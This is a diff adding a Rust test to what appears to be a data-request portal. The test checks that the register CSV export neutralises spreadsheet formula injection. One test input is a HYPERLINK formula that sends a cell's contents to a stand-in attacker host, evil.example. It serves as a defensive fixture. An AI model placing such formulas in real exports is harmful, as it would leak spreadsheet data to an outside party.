@@ -568,3 +568,66 @@ async fn retry_resumes_a_failed_request() {
             .contains("cannot retry a request that is completed")
     );
 }
+
+/// The register CSV: a ticket reference a spreadsheet would run as a formula gets a leading
+/// `'`; days left (a number the portal writes itself) stays a number, negative when overdue.
+#[actix_web::test]
+async fn the_register_csv_neutralises_formulas() {
+    use common::api::{ALL_SCOPES, hs_config, token};
+    let app = TestApp::spawn_with(Backend::Sqlite, &hs_config()).await;
+    let secret = desk::add(&app, "dpo@example.com", "dpo");
+    let bearer = token("support", ALL_SCOPES);
+    let link = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
+    for (i, ticket) in [link, "+1", "-2", "@x", "TAB"].iter().enumerate() {
+        let r = app
+            .api_post(
+                "/api/v1/requests",
+                Some(&bearer),
+                &serde_json::json!({"email": format!("f{i}@example.com"), "kind": "access",
+                                    "ticket_ref": ticket}),
+            )
+            .await;
+        assert_eq!(r.status, 201, "{}", r.text);
+    }
+    // The API takes printable references only; a tab can still come from elsewhere.
+    exec(
+        &app,
+        "UPDATE requests SET ticket_ref = '\tx' WHERE ticket_ref = 'TAB'",
+    );
+    // Overdue: verified by support, received 100 days ago.
+    let received = time::OffsetDateTime::now_utc() - time::Duration::days(100);
+    let r = app
+        .api_post(
+            "/api/v1/requests",
+            Some(&bearer),
+            &serde_json::json!({"email": "late@example.com", "kind": "erasure",
+                "ticket_ref": "LATE-1", "identity_verified": true,
+                "received_at": received.format(&time::format_description::well_known::Rfc3339).unwrap()}),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let d = Desk::new(&app);
+    d.login("dpo@example.com", &secret).await;
+    let csv = d.text("/admin/register.csv").await;
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    assert_eq!(&reader.headers().unwrap()[4], "ticket_ref");
+    assert_eq!(&reader.headers().unwrap()[9], "days_left");
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let mut tickets: Vec<&str> = rows.iter().map(|r| &r[4]).collect();
+    tickets.sort_unstable();
+    let mut expected = vec![
+        "'+1",
+        "'-2",
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
+        "'@x",
+        "'\tx",
+        "LATE-1",
+    ];
+    expected.sort_unstable();
+    assert_eq!(tickets, expected);
+    let late = rows.iter().find(|r| &r[4] == "LATE-1").unwrap();
+    let days: i64 = late[9]
+        .parse()
+        .unwrap_or_else(|_| panic!("days_left {:?}", &late[9]));
+    assert!(days < 0, "overdue: {days}");
+}
